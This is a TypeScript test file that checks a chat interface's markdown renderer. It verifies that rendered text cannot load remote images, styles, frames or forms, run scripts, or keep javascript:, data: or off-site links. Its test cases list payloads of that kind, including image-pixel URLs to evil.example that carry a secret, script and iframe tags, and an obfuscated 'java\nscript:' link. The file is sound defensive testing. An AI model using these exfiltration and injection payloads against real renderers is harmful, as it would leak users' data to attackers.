// @vitest-environment jsdom
import { expect, test } from "vitest";
import { Sources } from "../../static/src/chat/sources";
import { renderMarkdown } from "../../static/src/markdown/render";

function rendered(text: string): HTMLElement {
  const place = document.createElement("div");
  place.append(renderMarkdown(text));
  return place;
}

const PASSAGE = {
  number: 1,
  title: "Handbook",
  heading: "Handbook > Leave > Annual leave",
  page: 14,
  url: "/t/acme/documents/1/?passage=2",
  snippet: "25 days",
};

test.each([
  "![pixel](https://evil.example/x.png?q=secret)",
  "![pixel][1]\n\n[1]: https://evil.example/x.png",
  "![pixel][ref]\n\n[ref]: https://evil.example/x.png",
  '<img src="https://evil.example/x.png">',
  "<picture><source srcset='https://evil.example/x.png'></picture>",
  "<video poster='https://evil.example/x.png'></video>",
  "<svg><image href='https://evil.example/x.png'></image></svg>",
  "<style>p { background: url(https://evil.example/x.png) }</style>",
  '<p style="background: url(https://evil.example/x.png)">x</p>',
  "<iframe src='https://evil.example'></iframe>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<script>alert(1)</script>",
  "<form action='https://evil.example'><input name=q></form>",
])("nothing loads, styles or runs by itself: %s", (text) => {
  const place = rendered(text);

  expect(place.querySelectorAll("img, source, video, svg, style, iframe, link, script, form, input, [style]").length).toBe(0);
});

test("a link opens apart and gives nothing away", () => {
  const link = rendered("[docs](https://example.com/a)").querySelector("a");

  expect(link?.getAttribute("href")).toBe("https://example.com/a");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
  expect(link?.target).toBe("_blank");
});

test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "/t/acme/delete/", "//evil.example", "java\nscript:x"])(
  "a link to %j leads nowhere",
  (href) => {
    expect(rendered(`[x](${href})`).querySelector("a[href]")).toBe(null);
  },
);

test("a mark with a passage becomes a chip, one without stays text, one in code is code", () => {
  const place = rendered("Yes [1], and [7]. `list[1]` [1](https://example.com)");
  const sources = new Sources();
  sources.learn([PASSAGE]);

  sources.markUp(place);

  const chips = [...place.querySelectorAll("a[data-source]")];
  expect(chips.map((chip) => chip.getAttribute("href"))).toEqual([PASSAGE.url]);
  expect(chips[0]?.getAttribute("aria-label")).toBe("Source 1: Handbook, Leave › Annual leave, page 14");
  expect(place.textContent?.trim()).toBe("Yes 1, and [7]. list[1] 1");
});

test("a passage that was given but not cited in the end is text again", () => {
  const place = rendered("Yes [1].");
  const sources = new Sources();
  sources.learn([PASSAGE]);
  sources.markUp(place);

  sources.unmark(place);
  sources.settle([]);
  sources.markUp(place);

  expect(place.textContent?.trim()).toBe("Yes [1].");
});

test("several numbers in one mark are several chips", () => {
  const place = rendered("Both [1, 2].");
  const sources = new Sources();
  sources.learn([PASSAGE, { ...PASSAGE, number: 2 }]);

  sources.markUp(place);

  expect([...place.querySelectorAll("a[data-source]")].map((chip) => chip.textContent)).toEqual(["1", "2"]);
});

test("a passage's link never leaves this site", () => {
  const place = rendered("[1]");
  const sources = new Sources();
  sources.learn([{ ...PASSAGE, url: "https://evil.example/" }]);

  sources.markUp(place);

  expect(place.querySelector("a")?.getAttribute("href")).toBe("#");
});

test("a list of sources at the end is not taken for link definitions", () => {
  expect(rendered("[1]: Handbook").textContent).toContain("[1]: Handbook");
});
